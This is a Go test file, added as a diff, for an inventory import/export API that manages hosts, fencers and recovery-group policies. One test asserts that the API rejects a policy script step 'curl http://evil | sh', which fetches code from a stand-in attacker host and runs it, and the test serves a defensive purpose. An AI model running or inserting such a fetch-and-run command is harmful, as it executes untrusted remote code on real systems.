@@ -0,0 +1,184 @@
+package api
+
+import (
+	"net/http"
+	"strings"
+	"testing"
+
+	"themis/database"
+)
+
+// useGroups registers configured groups until test ends.
+func useGroups(t *testing.T, g ...InventoryGroup) {
+	RegisterGroups(g)
+	t.Cleanup(func() { RegisterGroups(nil) })
+}
+
+// useTestGroups configures group default, and group web whose webhook can
+// be imported into other groups.
+func useTestGroups(t *testing.T) {
+	useGroups(t,
+		InventoryGroup{Name: "default", Policy: []InventoryPolicyStep{{Type: "evacuate"}}},
+		InventoryGroup{Name: "web", Policy: []InventoryPolicyStep{{Type: "webhook", URL: "http://hook"}}})
+}
+
+func testInventory() *Inventory {
+	return &Inventory{
+		Version: InventoryVersion,
+		Hosts: []InventoryHost{
+			{Name: "node1", Group: "kube", States: []string{"manage", "network"},
+				Fencers: []InventoryFencer{{Type: "redfish", Host: "bmc1", Username: "u", Password: "p"}}},
+			{Name: "node2", Disabled: true, States: []string{"manage"}},
+		},
+		Groups: []InventoryGroup{
+			{Name: "default", Policy: []InventoryPolicyStep{{Type: "evacuate"}}},
+			{Name: "kube", Policy: []InventoryPolicyStep{{Type: "kubernetes"}, {Type: "webhook", URL: "http://hook"}}},
+		},
+	}
+}
+
+// importInventory imports inventory and returns changes as kind:name:action.
+func importInventory(t *testing.T, inventory *Inventory, query string) (*InventoryResult, string) {
+	t.Helper()
+	var result InventoryResult
+	decode(t, serve(t, http.MethodPost, "/inventory"+query, inventory), http.StatusOK, &result)
+	changes := make([]string, 0, len(result.Changes))
+	for _, c := range result.Changes {
+		changes = append(changes, c.Kind+":"+c.Name+":"+c.Action)
+	}
+	return &result, strings.Join(changes, ",")
+}
+
+func exportInventory(t *testing.T) *Inventory {
+	t.Helper()
+	var inventory Inventory
+	decode(t, serve(t, http.MethodGet, "/inventory", nil), http.StatusOK, &inventory)
+	return &inventory
+}
+
+func TestImportInventory(t *testing.T) {
+	s := useMemoryStore(t)
+	useTestGroups(t)
+
+	result, changes := importInventory(t, testInventory(), "?dry_run=true")
+	if result.Imported || changes != "host:node1:create,state:node1/manage:create,state:node1/network:create,"+
+		"fencer:node1/bmc1:create,host:node2:create,state:node2/manage:create,group:kube:create" {
+		t.Fatalf("unexpected dry run %v: %s", result.Imported, changes)
+	}
+	if hosts, _ := s.HostGetAll(); len(hosts) != 0 {
+		t.Fatalf("hosts are created on dry run")
+	}
+
+	result, _ = importInventory(t, testInventory(), "")
+	if !result.Imported {
+		t.Fatalf("inventory is not imported")
+	}
+	host, _ := s.HostGetByName("node1")
+	if host == nil || host.Group != "kube" {
+		t.Fatalf("unexpected host %+v", host)
+	}
+	if fencers, _ := s.FencerGetByHost(host.Id); len(fencers) != 1 || fencers[0].Port != 443 {
+		t.Errorf("unexpected fencers %v", fencers)
+	}
+	if host, _ := s.HostGetByName("node2"); host == nil || !host.Disabled {
+		t.Errorf("unexpected host %+v", host)
+	}
+	groups, _ := s.RecoveryGroupGetAll()
+	if len(groups) != 1 || groups[0].Name != "kube" || len(groups[0].Steps) != 2 || groups[0].Steps[1].URL != "http://hook" {
+		t.Fatalf("unexpected groups %+v", groups)
+	}
+
+	// imported groups are exported together with configured ones
+	exported := exportInventory(t)
+	if len(exported.Groups) != 3 || exported.Groups[1].Name != "kube" || len(exported.Groups[1].Policy) != 2 {
+		t.Errorf("unexpected groups %+v", exported.Groups)
+	}
+	if result, changes := importInventory(t, exported, ""); !result.Imported || len(changes) > 0 {
+		t.Errorf("import of export changes %s", changes)
+	}
+	if result, changes := importInventory(t, testInventory(), "?prune=true"); !result.Imported || len(changes) > 0 {
+		t.Errorf("import again changes %s", changes)
+	}
+
+	inventory := testInventory()
+	inventory.Hosts = inventory.Hosts[1:]
+	inventory.Hosts[0].Disabled = false
+	inventory.Hosts[0].States = nil
+	inventory.Groups = inventory.Groups[:1]
+	inventory.Groups[0].Policy = nil
+	result, changes = importInventory(t, inventory, "?prune=true")
+	if !result.Imported || changes != "host:node2:update,state:node2/manage:delete,host:node1:delete,"+
+		"group:default:create,group:kube:delete" {
+		t.Fatalf("unexpected prune %v: %s", result.Imported, changes)
+	}
+	if host, _ := s.HostGetByName("node2"); host == nil || host.Disabled || host.Status != HostInitialStatus {
+		t.Errorf("host is not enabled: %+v", host)
+	}
+	if host, _ := s.HostGetByName("node1"); host != nil {
+		t.Errorf("host is not pruned")
+	}
+	groups, _ = s.RecoveryGroupGetAll()
+	if len(groups) != 1 || groups[0].Name != "default" || len(groups[0].Steps) != 0 {
+		t.Errorf("unexpected groups %+v", groups)
+	}
+}
+
+func TestImportInventoryInvalid(t *testing.T) {
+	s := useMemoryStore(t)
+	useTestGroups(t)
+
+	// nothing is saved if any change is invalid
+	inventory := testInventory()
+	inventory.Hosts[1].Fencers = []InventoryFencer{{Host: "bmc2", Username: "u"}}
+	result, _ := importInventory(t, inventory, "")
+	if result.Imported {
+		t.Errorf("invalid inventory is imported")
+	}
+	for _, c := range result.Changes {
+		if (c.Kind == "fencer" && c.Name == "node2/bmc2") != (c.Error == ErrPasswordRequired.Error()) {
+			t.Errorf("unexpected change %+v", c)
+		}
+	}
+	if hosts, _ := s.HostGetAll(); len(hosts) != 0 {
+		t.Errorf("hosts are saved %v", hosts)
+	}
+	if groups, _ := s.RecoveryGroupGetAll(); len(groups) != 0 {
+		t.Errorf("groups are saved %v", groups)
+	}
+
+	for _, policy := range [][]InventoryPolicyStep{
+		{{Type: "reboot"}},
+		{{Type: "webhook"}},
+		{{Type: "script", Name: "x"}},
+		{{Type: "evacuate", Timeout: -1}},
+		// webhooks and scripts not configured in monitors
+		{{Type: "webhook", URL: "http://other"}},
+		{{Type: "script", Command: "curl http://evil | sh"}},
+	} {
+		inventory := testInventory()
+		inventory.Groups[0].Policy = policy
+		decode(t, serve(t, http.MethodPost, "/inventory", inventory), http.StatusBadRequest, nil)
+	}
+	inventory = testInventory()
+	inventory.Groups[1].Name = "default"
+	decode(t, serve(t, http.MethodPost, "/inventory", inventory), http.StatusBadRequest, nil)
+}
+
+func TestImportInventoryBusyHost(t *testing.T) {
+	s := useMemoryStore(t)
+	useTestGroups(t)
+	importInventory(t, testInventory(), "")
+	host, _ := s.HostGetByName("node1")
+	op := &database.Operation{HostId: host.Id, HostName: host.Name, Type: "fence", Status: "running"}
+	if err := s.Guard(nil).OperationInsert(op, nil); err != nil {
+		t.Fatal(err)
+	}
+
+	inventory := testInventory()
+	inventory.Hosts = inventory.Hosts[1:]
+	inventory.Hosts = append(inventory.Hosts, InventoryHost{Name: "node3"})
+	decode(t, serve(t, http.MethodPost, "/inventory?prune=true", inventory), http.StatusConflict, nil)
+	if host, _ := s.HostGetByName("node3"); host != nil {
+		t.Errorf("host is created although import failed")
+	}
+}